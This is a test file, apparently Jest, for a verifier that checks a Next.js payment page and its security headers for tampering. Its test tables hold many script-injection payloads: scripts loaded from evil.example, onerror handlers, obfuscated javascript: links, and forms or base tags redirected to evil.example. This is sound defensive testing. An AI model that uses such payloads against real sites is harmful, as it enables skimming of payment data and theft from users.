import { measureCpuTime } from '@/lib/domain/cpu-time.fixture';
import { makeSecurityHeaders } from '@/lib/server/security/security-headers';
import { verifyPage } from './verify-page';

const nonce = 'bm9uY2U=';
const url = 'https://pay.example/epayment/entry?refid=abc';
const chunk = (name: string) => `/_next/static/chunks/${name}.js`;
/** The page loads one and two; three is loaded on interaction. */
const manifest = {
  scripts: { [chunk('one')]: 'hash', [chunk('two')]: 'hash', [chunk('three')]: 'hash' },
  pages: { '/': [chunk('one')], '/epayment/[entry]/[[...rest]]': [chunk('one'), chunk('two')] },
};

const push = (text: string) => `<script nonce="${nonce}">self.__next_f.push(${JSON.stringify([1, text])})</script>`;
const pay = { method: 'post', action: '/api/payment/pay', children: ['$', '$L2', null, {}] };
const data = [
  '1:"$Sreact.fragment"\n',
  `4:"${chunk('one')}"\n`,
  `2:I[7,["$4","${chunk('three')}"],"default"]\n`,
  '5:X\n',
  '5:C\n',
  `:HL["/_next/static/chunks/style.css","style"]\n`,
  '3:T6,<b o=>',
  `0:["$","$1","c",{"children":["$","form",null,${JSON.stringify(pay)}]}]\n`,
];
const script = (source: string) => `<script src="${source}" async="" nonce="${nonce}"></script>`;
const goodHtml = `<!DOCTYPE html><html><head>${script(chunk('one'))}${script(`${chunk('two')}?dpl=1`)}
<link rel="preload" as="script" href="${chunk('one')}"></head>
<body><a href="/apg/help">Help</a><form method="post" action="/api/payment/pay"></form>
<script nonce="${nonce}">(self.__next_f=self.__next_f||[]).push([0])</script>${data.map(push).join('')}</body></html>`;

function headersOf(changes: Readonly<Record<string, string>> = {}): Headers {
  const none: readonly string[] = [];
  const made = makeSecurityHeaders({
    ...{ nonce, isHttps: true, hstsIncludesSubdomains: false, postsToOtherSite: false, development: null },
    ...{ frameAncestors: none, formTargets: none, imageOrigins: none, widgetOrigins: none },
  });
  return new Headers({ ...made, ...changes });
}

const verify = (html: string, headers = headersOf()) => verifyPage({ url, headers, html, cardTarget: null }, manifest);
const withTag = (tag: string) => verify(goodHtml.replace('</body>', `${tag}</body>`));
const withData = (row: string) => withTag(push(row));
const element = (type: string, properties: object) => `9:${JSON.stringify(['$', type, null, properties])}\n`;

test('row 34: a page as it was built has no difference', () => {
  expect(verify(goodHtml)).toEqual([]);
});

test.each([
  ['from another site', `<script nonce="${nonce}" src="https://evil.example/x.js"></script>`],
  ['from another site, by its scheme', `<script nonce="${nonce}" src="//evil.example/x.js"></script>`],
  ['that was not built', `<script nonce="${nonce}" src="/_next/static/chunks/four.js"></script>`],
  ['of the name of a property', `<script nonce="${nonce}" src="/constructor"></script>`],
  ['without a nonce', `<script src="${chunk('one')}"></script>`],
  ['in the page', `<script nonce="${nonce}">document.forms[0].action="https://evil.example"</script>`],
  ['behind the data of the framework', `<script nonce="${nonce}">self.__next_f.push([1,""]);steal()//])</script>`],
  ['in the data of the framework', `<script nonce="${nonce}">self.__next_f.push([1,steal()])</script>`],
  ['in capitals', `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`],
  ['with a slash for a blank', `<script/src=//evil.example/x.js></script>`],
  ['behind a quoted >', `<script data-a=">" src=//evil.example/x.js></script>`],
  ['that is not closed', `<script src=//evil.example/x.js>`],
  ['behind a comment that ends at once', `<!--><script src=//evil.example/x.js></script>-->`],
  ['that is fetched ahead', `<link rel=preload as=script href=//evil.example/x.js>`],
  ['that is fetched ahead as a module', `<link rel=modulepreload href=//evil.example/x.js>`],
  ['on an event', `<img src="/x.png" onerror="steal()">`],
  ['on an event, without blanks', `<img/src="/x.png"/onerror=steal()>`],
  ['behind a link', `<a href="javascript:steal()">Pay</a>`],
  ['behind a link, in references', `<a href="&#106;ava&Tab;script&colon;steal()">Pay</a>`],
  ['in a frame', `<iframe src="https://evil.example"></iframe>`],
])('row 34: a script %s is an alarm', (_where, tag) => {
  expect(withTag(tag)).toHaveLength(1);
});

test.each([
  ['another base', '<base href="https://evil.example/">'],
  ['a form that is sent elsewhere', '<form action="https://evil.example/"></form>'],
  ['a button that sends a form elsewhere', '<button formaction=//evil.example>Pay</button>'],
  ['a page that leads away by itself', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
])('row 34: %s is an alarm', (_what, tag) => {
  expect(withTag(tag)).toHaveLength(1);
});

test.each([
  ['a chunk of another site', `9:I[8,["https://evil.example/x.js"],"default"]\n`],
  ['a chunk that was not built', `9:I[8,["${chunk('four')}"],"default"]\n`],
  ['a hint to load a script', `:HX["https://evil.example/x.js",{}]\n`],
  ['a script to fetch ahead', `:HL["https://evil.example/x.js","script"]\n`],
  ['a script element', element('script', { src: 'https://evil.example/x.js' })],
  ['a script element with content', element('script', { dangerouslySetInnerHTML: { __html: 'steal()' } })],
  ['an element whose type is in another row', `8:"script"\n${element('$8', { children: 'steal()' })}`],
  ['markup', element('div', { dangerouslySetInnerHTML: { __html: '<img onerror=steal()>' } })],
  ['a frame', element('iframe', { src: '/' })],
  ['a form that is sent elsewhere', element('form', { action: 'https://evil.example/' })],
  ['a form whose address is in another row', `8:T15,https://evil.example/${element('form', { action: '$8' })}`],
  ['a form whose address is a part of another row', element('form', { action: '$8:props:action' })],
  ['a chunk that is in another row', `8:"https://evil.example/x.js"\n9:I[8,["$8"],"default"]\n`],
  ['the address of a script for a component', element('$L2', { source: 'https://evil.example/widget.js' })],
  ['a link to a script', element('a', { href: 'java\tscript:steal()' })],
  ['what the framework does not write', '9:Zsteal\n'],
])('row 34: %s in the data of React is an alarm', (_what, row) => {
  expect(withData(row)).toHaveLength(1);
});

test.each([
  ['that its HTML loads', goodHtml.replace(script(chunk('one')), '')],
  ['that is named only in a comment', goodHtml.replace(script(chunk('one')), `<!-- ${chunk('one')} -->`)],
])('row 34: a page without a script %s is an alarm', (_what, html) => {
  expect(verify(html)).toEqual([`the page lacks a script: ${chunk('one')}`]);
});

test('row 34: a page without the data of React is an alarm', () => {
  expect(verify(data.map(push).reduce((html, row) => html.replace(row, ''), goodHtml))).toEqual([
    'the page lacks the data of the framework',
  ]);
});

test('row 34: a page that is not of the build is an alarm', () => {
  const page = { url: 'https://pay.example/other', headers: headersOf(), html: goodHtml, cardTarget: null };
  expect(verifyPage(page, manifest)).toEqual(['no page of the build']);
});

test.each([
  ['x-frame-options', 'SAMEORIGIN'],
  ['referrer-policy', 'unsafe-url'],
  ['strict-transport-security', 'max-age=0'],
  ['permissions-policy', ''],
  ['content-security-policy', `script-src 'self' 'nonce-${nonce}' 'unsafe-inline'`],
])('row 34: another %s is an alarm', (name, value) => {
  expect(verify(goodHtml, headersOf({ [name]: value }))).toEqual([expect.stringContaining(`${name} is '${value}'`)]);
});

test('row 34: a page without its headers is an alarm for each of them', () => {
  expect(verify(goodHtml, new Headers()).length).toBeGreaterThanOrEqual(6);
});

test.each([
  '<script ',
  '<script>',
  '<script nonce="',
  '<script></script',
  '<a href=" ',
  '<a b=c ',
  '<',
  '<!--',
  '&#106',
  ' on=',
  `<script nonce="${nonce}">self.__next_f.push(`,
])('the time to verify a page of %j is linear in its length', (unit) => {
  const html = unit.repeat(Math.floor(1_000_000 / unit.length));
  // Quadratic time would be minutes.
  expect(measureCpuTime(() => verify(html))).toBeLessThan(5_000);
});

describe('the page for a direct post', () => {
  const cardTarget = 'https://gate.example';
  const cardForm = '<form method="post" action="https://gate.example/p/1/"></form>';
  const cardHeaders = headersOf(
    makeSecurityHeaders({
      ...{ nonce, isHttps: true, hstsIncludesSubdomains: false, postsToOtherSite: true, development: null },
      ...{ frameAncestors: [], formTargets: [cardTarget], imageOrigins: [], widgetOrigins: [] },
    }),
  );
  const verifyCard = (html: string, target: string | null = cardTarget, headers = cardHeaders) =>
    verifyPage({ url, headers, html: goodHtml.replace('</body>', `${html}</body>`), cardTarget: target }, manifest);

  test('row 34: may post to its gateway', () => {
    expect(verifyCard(cardForm)).toEqual([]);
  });

  test('row 34: may post nowhere else, and no other page may post there', () => {
    const alarm = expect.stringContaining('lead a form away');
    expect(verifyCard(cardForm.replace('gate.example', 'evil.example'))).toEqual([alarm]);
    expect(verifyCard(cardForm.replace('https:', 'http:'))).toEqual([alarm]);
    expect(verifyCard(cardForm, null, headersOf())).toEqual([alarm]);
  });

  test('row 34: has no other target in its policy', () => {
    const policy = cardHeaders.get('content-security-policy') ?? '';
    const wider = headersOf({
      'referrer-policy': 'strict-origin',
      'content-security-policy': policy.replace(cardTarget, `${cardTarget} https:`),
    });
    expect(verifyCard(cardForm, cardTarget, wider)).toEqual([expect.stringContaining('content-security-policy is')]);
  });
});
